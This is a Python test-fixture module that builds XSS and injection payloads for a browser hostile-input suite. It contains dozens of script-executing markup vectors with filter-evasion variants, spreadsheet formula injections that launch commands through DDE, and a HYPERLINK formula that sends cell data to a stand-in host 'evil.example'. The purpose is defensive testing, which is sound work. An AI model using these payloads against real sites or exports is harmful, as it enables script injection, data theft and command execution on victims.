"""
XSS and injection payloads for the hostile-input suite.

Every payload that could execute calls `xss()` in some form; the browser tests define nothing
by that name, so a payload that runs throws a ReferenceError the tests see on the console, and
the `alert`/`confirm`/`prompt` variants open a dialog the tests listen for.
"""

# Shapes of markup that execute script, each with a placeholder for the code to run.
_VECTORS = [
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<script type=module>{js}</script>",
    "<img src=x onerror={js}>",
    '<img src=x onerror="{js}">',
    "<IMG SRC=x OnErRoR={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<body onload={js}>",
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<a href="javascript:{js}">click</a>',
    '<a href="JaVaScRiPt:{js}">click</a>',
    '<a href="&#106;avascript:{js}">click</a>',
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    '<form><button formaction="javascript:{js}">x</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<div style="background:url(javascript:{js})">x</div>',
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</script><script>{js}</script>",
    '" onmouseover="{js}" x="',
    "' onmouseover='{js}' x='",
    '" autofocus onfocus="{js}" x="',
    "javascript:{js}",
    '<div hx-get="/" hx-trigger="load" hx-on::after-request="{js}">x</div>',
    '<div hx-on:click="{js}">x</div>',
    '<div data-hx-on:click="{js}">x</div>',
    "{{{{ {js} }}}}",
    '<base href="javascript:{js}//">',
    '<link rel=import href="data:text/html,<script>{js}</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    "<isindex action=javascript:{js} type=image>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<style>@import 'javascript:{js}';</style>",
    "<xss id=x tabindex=1 onfocusin={js}></xss>",
    '<img src="x" onerror="&#x{hexjs}">',
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>script>{js}<</script>/script>",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "<img src=x:x onerror={js}//",
]

_CODES = ["xss(1)", "alert(1)"]


def _expand() -> list[str]:
    payloads = []
    for vector in _VECTORS:
        for code in _CODES:
            hexjs = ";&#x".join(f"{ord(c):x}" for c in code)
            payloads.append(vector.format(js=code, hexjs=hexjs))
    return list(dict.fromkeys(payloads))


# Not markup, but dangerous in other outputs: spreadsheets (formula injection), JSON, XML.
OTHER_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "]]></title><script>xss(1)</script>",
    "<![CDATA[<script>xss(1)</script>]]>",
    "\u2028\u2029</script><script>xss(1)</script>",
    '{"@context": "x"}</script><script>xss(1)</script>',
    "\x0b\x0c control \x1b characters",
]

PAYLOADS = _expand() + OTHER_PAYLOADS
assert len(PAYLOADS) >= 100, len(PAYLOADS)
